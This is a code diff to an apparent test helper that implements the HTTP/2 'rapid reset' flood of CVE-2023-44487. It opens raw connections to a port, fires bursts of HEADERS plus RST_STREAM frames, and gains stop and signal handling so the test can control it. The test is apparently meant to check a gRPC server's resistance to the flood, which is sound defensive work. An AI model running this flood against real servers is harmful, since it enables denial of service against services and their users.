@@ -17,6 +17,7 @@ import struct
 import sys
 import threading
 import time
+from collections.abc import Callable
 from dataclasses import dataclass, field
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
@@ -189,22 +190,32 @@ class Connection:
             self._got_settings.set()
 
 
-def flood_resets(port: int, seconds: float, connections: int) -> int:
+def flood_resets(
+    port: int,
+    seconds: float,
+    connections: int,
+    stop: threading.Event | None = None,
+    started: Callable[[], None] | None = None,
+) -> int:
     """Open and at once reset streams on ``connections`` connections for ``seconds``.
 
     The "rapid reset" of CVE-2023-44487: each stream is a request's HEADERS
     followed by RST_STREAM(CANCEL), a hundred to a write, so the server sees a
     new call and its cancellation before it can have answered. Returns how
-    many streams were opened.
+    many streams were opened. ``stop`` ends it early; ``started`` is called
+    once the connections are open.
     """
     conns = [Connection.open(port) for _ in range(connections)]
     block = grpc_headers("/grpc.health.v1.Health/Check")
     end = time.monotonic() + seconds
     counts = [0] * connections
+    halt = stop if stop is not None else threading.Event()
+    if started is not None:
+        started()
 
     def run(i: int) -> None:
         conn = conns[i]
-        while time.monotonic() < end and conn.alive():
+        while time.monotonic() < end and conn.alive() and not halt.is_set():
             burst = bytearray()
             for _ in range(100):
                 stream, conn.next_stream = conn.next_stream, conn.next_stream + 2
@@ -229,5 +240,17 @@ def flood_resets(port: int, seconds: float, connections: int) -> int:
 if __name__ == "__main__":
     # A separate process, as an abuser would be: flooding from a thread of the
     # test process would slow the server under test by holding its GIL.
-    # Usage: _h2raw.py PORT SECONDS CONNECTIONS; prints the streams opened.
-    print(flood_resets(int(sys.argv[1]), float(sys.argv[2]), int(sys.argv[3])), flush=True)
+    # Usage: _h2raw.py PORT SECONDS CONNECTIONS; prints "flooding" once the
+    # connections are open, then (at the end, or on SIGTERM) the streams opened.
+    import signal
+
+    stop = threading.Event()
+    signal.signal(signal.SIGTERM, lambda *_: stop.set())
+    count = flood_resets(
+        int(sys.argv[1]),
+        float(sys.argv[2]),
+        int(sys.argv[3]),
+        stop,
+        lambda: print("flooding", flush=True),
+    )
+    print(count, flush=True)
